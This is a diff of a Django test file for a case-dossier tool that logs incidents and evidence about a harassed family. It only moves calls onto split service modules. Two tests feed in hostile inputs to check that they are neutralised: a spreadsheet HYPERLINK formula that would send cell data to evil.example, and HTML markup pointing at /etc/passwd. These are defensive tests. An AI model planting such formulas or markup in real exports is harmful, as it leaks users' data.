@@ -21,9 +21,13 @@ from django.utils import timezone
 
 from dossiers.models import Dossier
 from dossiers.tasks import compile_dossier
-from incidents import evidence_store, services
 from incidents.models import Case, Evidence
+from incidents.services import cases as case_services
+from incidents.services import evidence as evidence_services
+from incidents.services import parties as party_services
+from incidents.services import references as reference_services
 from tests.factories import log_incident, png_bytes, upload
+from vault import store
 
 pytestmark = pytest.mark.django_db
 
@@ -46,7 +50,7 @@ def pdf_path(dossier: Dossier, tmp_path: Path) -> Path:
     folder = tmp_path / "out"
     folder.mkdir(exist_ok=True)
     path = folder / f"dossier-{dossier.pk}.pdf"
-    path.write_bytes(evidence_store.read_all(dossier.case, dossier.file_name))
+    path.write_bytes(store.read_all(dossier.case, dossier.file_name))
     return path
 
 
@@ -79,7 +83,9 @@ def at(hour: int, minute: int, *day: int) -> dt.datetime:
 def rich(case, owner, editor):
     """A case with incidents logged out of date order, exhibits of several kinds, a suspect and a reference."""
     now = timezone.now()
-    suspect = services.party_create(user=owner, case=case, kind="suspect", name="troll_account_99", handles="@troll99")
+    suspect = party_services.party_create(
+        user=owner, case=case, kind="suspect", name="troll_account_99", handles="@troll99"
+    )
     welfare = log_incident(
         case,
         owner,
@@ -106,9 +112,11 @@ def rich(case, owner, editor):
         narrative="A social worker called about an anonymous referral.",
         impact="We could not sleep.",
     )
-    services.reference_create(user=owner, case=case, kind="social_services", number="CS-2026-0412", incidents=[phone])
+    reference_services.reference_create(
+        user=owner, case=case, kind="social_services", number="CS-2026-0412", incidents=[phone]
+    )
     originals = {"photo.png": png_bytes(1200, 900), "letter.pdf": LETTER, "note.txt": NOTE}
-    attach = services.evidence_attach
+    attach = evidence_services.evidence_attach
     photo = attach(
         user=owner,
         case=case,
@@ -179,7 +187,7 @@ def test_text_has_every_incident_in_date_order_every_exhibit_and_the_code(case, 
 def test_a_long_exhibit_list_keeps_each_fingerprint_with_its_exhibit_across_pages(case, owner, tmp_path):
     incident = log_incident(case, owner, title="Many messages")
     for n in range(1, 61):
-        services.evidence_attach(
+        evidence_services.evidence_attach(
             user=owner,
             case=case,
             kind="other",
@@ -242,7 +250,7 @@ def test_row_records_the_fingerprint_size_and_page_count_of_the_pdf(case, owner,
 
 def test_pack_holds_the_pdf_every_original_by_mark_and_manifests_that_match(case, owner, rich, tmp_path):
     dossier = compile_now(case, owner)
-    pack = evidence_store.read_all(case, dossier.pack_name)
+    pack = store.read_all(case, dossier.pack_name)
     assert dossier.pack_sha256 == hashlib.sha256(pack).hexdigest()
     assert dossier.pack_size == len(pack)
     archive = zipfile.ZipFile(io.BytesIO(pack))
@@ -275,7 +283,7 @@ def test_pack_holds_the_pdf_every_original_by_mark_and_manifests_that_match(case
 
 def test_manifest_csv_shows_formula_like_text_as_text_and_json_keeps_it_as_typed(case, owner):
     formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
-    services.evidence_attach(
+    evidence_services.evidence_attach(
         user=owner,
         case=case,
         kind="letter",
@@ -284,7 +292,7 @@ def test_manifest_csv_shows_formula_like_text_as_text_and_json_keeps_it_as_typed
         uploaded_file=upload("n.txt", NOTE),
     )
     dossier = compile_now(case, owner)
-    archive = zipfile.ZipFile(io.BytesIO(evidence_store.read_all(case, dossier.pack_name)))
+    archive = zipfile.ZipFile(io.BytesIO(store.read_all(case, dossier.pack_name)))
     [csv_row] = csv.DictReader(io.StringIO(archive.read("manifest.csv").decode()))
     [json_row] = json.loads(archive.read("manifest.json"))["exhibits"]
     assert csv_row["obtained"] == "'" + formula
@@ -323,8 +331,8 @@ def test_a_row_taller_than_a_page_flows_on_instead_of_failing_the_dossier():
 
 @pytest.fixture
 def about_ella(owner):
-    case = services.case_create(user=owner, title="Reports about Ella and our family")
-    services.child_add(user=owner, case=case, name="Ella May Jones")
+    case = case_services.case_create(user=owner, title="Reports about Ella and our family")
+    case_services.child_add(user=owner, case=case, name="Ella May Jones")
     incident = log_incident(
         case,
         owner,
@@ -333,7 +341,7 @@ def about_ella(owner):
         impact="Ella May Jones could not sleep.",
         outcome="Ella changed nursery.",
     )
-    services.evidence_attach(
+    evidence_services.evidence_attach(
         user=owner,
         case=case,
         kind="screenshot",
@@ -363,9 +371,9 @@ def test_without_redaction_the_names_are_printed(about_ella, owner, tmp_path):
 
 def test_markup_typed_by_users_is_printed_as_text(case, owner, tmp_path):
     markup = '<img src="/etc/passwd"/> <font size="40">big</font> &amp; <b>'
-    party = services.party_create(user=owner, case=case, kind="suspect", name='<a href="x">troll</a>')
+    party = party_services.party_create(user=owner, case=case, kind="suspect", name='<a href="x">troll</a>')
     incident = log_incident(case, owner, title="<b>Bold</b> & <i>title", narrative=markup, parties=[party])
-    services.evidence_attach(
+    evidence_services.evidence_attach(
         user=owner,
         case=case,
         kind="screenshot",
@@ -384,7 +392,7 @@ def test_markup_typed_by_users_is_printed_as_text(case, owner, tmp_path):
 @pytest.mark.parametrize(("photos", "images"), [("inline", 1), ("listed", 0)])
 def test_photos_inline_put_the_image_on_a_page_and_listed_do_not(case, owner, tmp_path, photos, images):
     incident = log_incident(case, owner, title="The screenshot")
-    services.evidence_attach(
+    evidence_services.evidence_attach(
         user=owner,
         case=case,
         kind="photo",
@@ -419,10 +427,10 @@ def test_date_range_keeps_only_the_incidents_inside_it(case, owner, tmp_path):
 
 def test_withdrawn_exhibit_is_listed_as_withdrawn_and_its_photo_not_printed(case, owner, tmp_path):
     incident = log_incident(case, owner, title="The screenshot")
-    kept = services.evidence_attach(
+    kept = evidence_services.evidence_attach(
         user=owner, case=case, kind="other", description="Our notes", uploaded_file=upload("n.txt", NOTE)
     ).evidence
-    wrong = services.evidence_attach(
+    wrong = evidence_services.evidence_attach(
         user=owner,
         case=case,
         kind="screenshot",
@@ -430,7 +438,7 @@ def test_withdrawn_exhibit_is_listed_as_withdrawn_and_its_photo_not_printed(case
         uploaded_file=upload("w.png", png_bytes(800, 600)),
         incidents=[incident],
     ).evidence
-    services.evidence_withdraw(user=owner, evidence=wrong, reason="Wrong screenshot")
+    evidence_services.evidence_withdraw(user=owner, evidence=wrong, reason="Wrong screenshot")
     path = pdf_path(compile_now(case, owner, photos="inline"), tmp_path)
     exhibit_list = pdf_text(path, layout=True).split("Exhibit list", 1)[1]
     wrong_line = next(line for line in exhibit_list.splitlines() if wrong.mark in line)
@@ -448,7 +456,7 @@ def test_render_a_demo_like_dossier_to_png_for_a_look(owner, tmp_path):
     case = Case.objects.get(title__startswith="Demo:")
     parent = case.created_by
     forum, phoned, police = case.incidents.order_by("occurred_at")
-    attach = services.evidence_attach
+    attach = evidence_services.evidence_attach
     attach(
         user=parent,
         case=case,
@@ -475,7 +483,7 @@ def test_render_a_demo_like_dossier_to_png_for_a_look(owner, tmp_path):
         uploaded_file=upload("card.png", png_bytes(600, 900, (180, 160, 60))),
         incidents=[police],
     ).evidence
-    services.evidence_withdraw(user=parent, evidence=wrong, reason="The wrong card was photographed.")
+    evidence_services.evidence_withdraw(user=parent, evidence=wrong, reason="The wrong card was photographed.")
     attach(user=parent, case=case, kind="web_page", description="The thread", source_url="https://forum.example/1")
     path = pdf_path(compile_now(case, parent, redact=True, photos="inline"), tmp_path)
     if LOOK_DIR.exists():
